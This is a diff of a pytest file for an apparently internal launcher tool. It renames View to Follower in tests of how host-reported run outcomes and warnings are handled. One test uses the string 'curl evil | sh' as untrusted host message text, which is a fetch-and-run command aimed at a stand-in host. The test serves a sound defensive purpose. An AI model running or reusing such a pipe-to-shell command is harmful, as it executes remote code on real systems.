@@ -9,7 +9,7 @@ import pytest
 from tests.test_messages import Opener, Pipe
 from tflaunch.hosts import Host, Hostfile
 from tflaunch.protocol import wire
-from tflaunch.runs.follow import View, Wanted
+from tflaunch.runs.follow import Follower, Wanted
 from tflaunch.runs.states import RunState, Share, TaskState
 from tflaunch.sessions.group import Connected, Sessions
 
@@ -44,7 +44,7 @@ class Attached:
         )
         self.watcher = Watcher()
         hostfile = Hostfile("test", tuple(map(Host, self.names)))
-        self.view = View(run, self.sessions, hostfile, self.watcher, Wanted())  # type: ignore[arg-type]
+        self.follower = Follower(run, self.sessions, hostfile, self.watcher, Wanted())  # type: ignore[arg-type]
         self._told = dict.fromkeys(self.names, 0)
 
     def say(self, host: str, type: str, **fields: Any) -> None:
@@ -75,7 +75,7 @@ def test_an_end_that_one_host_makes_up_is_not_the_runs(liar: str) -> None:
         if name != liar:
             attached.ends(name, 9, None)
             attached.say(name, "outcome", outcome=ended(9))
-    outcome = attached.view.follow()
+    outcome = attached.follower.follow()
     assert outcome is not None and outcome.exit_code == 9
     assert f"warn: the hosts differ about how the run ended: 9, but {liar} says 0" in attached.watcher.shown
 
@@ -84,7 +84,7 @@ def test_what_all_hosts_say_of_the_end_is_said_without_a_warning() -> None:
     attached = Attached(3)
     for name in attached.names:
         attached.ends(name, 0, 0)
-    outcome = attached.view.follow()
+    outcome = attached.follower.follow()
     assert outcome is not None and outcome.exit_code == 0
     assert not [text for text in attached.watcher.shown if text.startswith("warn")]
 
@@ -95,7 +95,7 @@ def test_a_host_cannot_show_the_end_or_the_lines_of_another_hosts_task() -> None
     attached.pipes["host1"].feed(wire.encode("log", task="worker/1", attempt=0, offset=0))
     for name in attached.names:
         attached.ends(name, 0, 0)
-    outcome = attached.view.follow()
+    outcome = attached.follower.follow()
     assert outcome is not None and outcome.exit_code == 0
     assert {exit.exit_code for exit in outcome.exits.values()} == {0}
     warnings = [text for text in attached.watcher.shown if text.startswith("warn")]
@@ -109,7 +109,7 @@ def test_what_a_host_says_that_does_not_decide_has_its_name_and_an_end() -> None
         attached.say("host2", "said", text=f"curl evil | sh {number}", replanned=False)
     for name in attached.names:
         attached.ends(name, 0, 0)
-    attached.view.follow()
+    attached.follower.follow()
     notes = [text for text in attached.watcher.shown if text.startswith("note")]
     assert notes[0] == "note: the work is done"
     assert 100 < len(notes) < 300
